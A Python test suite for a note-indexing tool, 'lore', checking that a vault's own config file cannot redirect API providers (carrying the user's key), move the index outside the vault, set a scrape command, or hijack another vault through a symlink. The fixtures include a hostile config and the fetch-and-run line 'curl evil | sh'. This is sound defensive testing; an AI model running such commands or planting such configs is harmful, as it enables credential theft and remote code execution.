"""Issue 13, class 2: a vault's `.lore/config.toml` may change what is indexed and how it
ranks, never where lore writes, what it runs or where it sends data.

Real `lore` processes on a vault whose config points the providers at a listener on
127.0.0.1 and the index outside the vault: no connection reaches the listener, no file
appears outside, and each command says once, in one line, what it ignored. The same
listener configured by the user is reached (the listener can see connections), and the
user's own config file is honoured.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import anyio
import pytest
from conftest import one_line_naming, write_files
from stranger import NOTES, Listener, lore_env, run_lore, tree_state

import lore
from lore.config import load_lore_settings, user_config_path

KEY = "sk-the-users-own-key"
# The listener answers 500: retried at once, not after the default backoff (tests never
# sleep); whether the listener is reached does not depend on the wait.
NO_BACKOFF = {"LORE_EMBED_BACKOFF": "0", "LORE_LLM_BACKOFF": "0"}


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


def hostile_config(listener: Listener, outside: Path) -> str:
    return (
        "[lore]\n"
        'embed_provider = "openai"\n'
        f'embed_base_url = "{listener.url}"\n'
        'embed_model = "stolen"\n'
        'llm_provider = "openai"\n'
        f'llm_base_url = "{listener.url}"\n'
        'llm_model = "stolen"\n'
        f'db = "{outside / "moved.sqlite"}"\n'
        "max_file_bytes = 65536\n"  # what is indexed: honoured
    )


@pytest.fixture
def stage(tmp_path: Path, listener: Listener) -> tuple[Path, Path]:
    """(vault, the folder around it) with a hostile config."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("the user's own file\n", encoding="utf-8")
    vault = tmp_path / "vault"
    write_files(vault, {**NOTES, ".lore/config.toml": hostile_config(listener, outside)})
    return vault, tmp_path


def test_vault_config_reaches_no_listener_and_writes_nothing_outside(
    stage: tuple[Path, Path], listener: Listener
) -> None:
    vault, around = stage
    before = tree_state(around, skip=vault)
    env = lore_env(around / "home", LORE_EMBED_API_KEY=KEY, LORE_LLM_API_KEY=KEY)
    v = ["--vault", str(vault)]
    for args in (
        ["index", str(vault)],
        ["search", "客户 去重", *v],
        ["remember", "客户去重规则 v2 下周上线", *v],
        ["lookup", "孙八", *v],
        ["status", "--json", *v],
    ):
        outcome = run_lore(args, env, around)
        assert outcome.verdict == "ok", outcome
        (notice,) = [line for line in outcome.stderr.splitlines() if "ignored" in line]
        one_line_naming(notice, "embed_base_url", "llm_base_url", "embed_provider", "db", "LORE_DB")
        assert "stolen" not in notice  # the names, never the values (they may be secrets)
    assert listener.connections == 0 and KEY.encode() not in listener.received
    assert tree_state(around, skip=vault) == before
    status = json.loads(outcome.stdout)
    assert status["db"] == str(vault / ".lore" / "index.sqlite") and status["mode"] == "mode4"


def test_the_same_listener_set_by_the_user_is_reached(
    stage: tuple[Path, Path], listener: Listener
) -> None:
    """The control: when the user points the provider there, connections are counted."""
    vault, around = stage
    env = lore_env(
        around / "home",
        LORE_EMBED_PROVIDER="openai",
        LORE_EMBED_BASE_URL=listener.url,
        LORE_EMBED_MODEL="mine",
        LORE_EMBED_API_KEY=KEY,
        **NO_BACKOFF,
    )
    outcome = run_lore(["index", str(vault)], env, around)
    assert outcome.verdict == "ok", outcome
    assert listener.connections > 0 and KEY.encode() in listener.received
    assert "embeddings unavailable" in outcome.stderr  # the listener answers 500


def test_the_users_config_file_is_honoured(tmp_path: Path, listener: Listener) -> None:
    vault = tmp_path / "vault"
    write_files(vault, NOTES)
    home = tmp_path / "home"
    elsewhere = tmp_path / "indexes" / "mine.sqlite"
    write_files(
        home,
        {
            "config.toml": f'[lore]\ndb = "{elsewhere}"\nembed_provider = "openai"\n'
            f'embed_base_url = "{listener.url}"\nembed_model = "mine"\n'
        },
    )
    outcome = run_lore(["index", str(vault)], lore_env(home, **NO_BACKOFF), tmp_path)
    assert outcome.verdict == "ok", outcome
    assert "ignored" not in outcome.stderr
    assert elsewhere.is_file() and not (vault / ".lore" / "index.sqlite").exists()
    assert listener.connections > 0


def test_user_config_path_precedence(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LORE_HOME", str(tmp_path / "h"))
    assert user_config_path() == tmp_path / "h" / "config.toml"
    monkeypatch.delenv("LORE_HOME")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "x"))
    assert user_config_path() == tmp_path / "x" / "lore" / "config.toml"


def test_what_a_vault_may_set_is_honoured(tmp_path: Path) -> None:
    write_files(
        tmp_path,
        {
            ".lore/config.toml": '[lore]\nmax_file_bytes = 20000\nembed_provider = "local"\n'
            'field_weights = { title = 9 }\nscrape_cmd = "curl evil | sh"\ninbox = "captured"\n'
        },
    )
    settings = load_lore_settings(tmp_path)
    assert settings.max_file_bytes == 20000 and settings.field_weights["title"] == 9.0
    assert settings.embed_provider == "local"  # nothing leaves the machine
    assert settings.inbox == "captured" and settings.scrape_cmd is None
    (notice,) = settings.notices
    one_line_naming(notice, "scrape_cmd (LORE_SCRAPE_CMD)", str(tmp_path / ".lore/config.toml"))
    # The environment and arguments are the user's: honoured.
    assert load_lore_settings(tmp_path, scrape_cmd="my-scraper").scrape_cmd == "my-scraper"


def test_notices_are_said_once(stage: tuple[Path, Path]) -> None:
    vault, _around = stage
    with lore.open(vault) as opened:
        first = opened.sync().notices
        assert len([n for n in first if "ignored" in n]) == 1
        assert not [n for n in opened.search("客户").notices if "ignored" in n]
        assert not [n for n in opened.sync().notices if "ignored" in n]


def test_mcp_says_it_on_the_first_answer(stage: tuple[Path, Path]) -> None:
    from lore.mcp.server import LoreServer

    vault, _around = stage
    with lore.open(vault) as opened:
        server = LoreServer(opened)
        first = anyio.run(server.call, "status", {})
        second = anyio.run(server.call, "status", {})
    told = first.structured_content.get("notices", [])
    assert len([n for n in told if "ignored" in n]) == 1, told
    assert not [n for n in second.structured_content.get("notices", []) if "ignored" in n]


def test_a_lore_folder_that_is_a_link_is_refused(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    write_files(victim, {f"n{i}.md": f"# Note {i}\n" for i in range(5)})
    with lore.open(victim) as opened:
        opened.sync()
    before = tree_state(victim)
    vault = tmp_path / "vault"
    write_files(vault, {"mine.md": "# Mine\n"})
    (vault / ".lore").symlink_to(victim / ".lore", target_is_directory=True)
    for args in (["index", str(vault)], ["search", "note", "--vault", str(vault)]):
        outcome = run_lore(args, lore_env(tmp_path / "home"), tmp_path)
        assert outcome.verdict == "one-line error", outcome
        one_line_naming(outcome.stderr.strip(), str(vault / ".lore"), "symlink")
    assert tree_state(victim) == before
    with lore.open(victim) as opened:  # the victim's index still holds its own notes
        assert opened.status().notes == 5
